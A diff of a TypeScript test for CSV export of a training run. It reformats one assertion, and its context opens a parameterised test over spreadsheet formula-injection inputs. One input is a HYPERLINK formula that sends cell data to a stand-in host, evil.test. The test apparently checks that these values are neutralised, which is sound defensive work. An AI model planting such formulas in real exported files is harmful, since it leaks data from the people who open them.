@@ -182,7 +182,13 @@ describe('a run as CSV', () => {
     expect(body.at(-1)![0]).toBe(500);
     trainer.seek(3);
     const epochs = toCsv(trainer).trimEnd().split('\n').slice(-5);
-    expect(epochs.map((line) => line.split(',')[0])).toEqual([expect.stringMatching(/"$/), '0', '1', '2', '3']);
+    expect(epochs.map((line) => line.split(',')[0])).toEqual([
+      expect.stringMatching(/"$/),
+      '0',
+      '1',
+      '2',
+      '3',
+    ]);
   });
 
   it.each(['=HYPERLINK("http://evil.test?"&B2,"x")', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1'])(
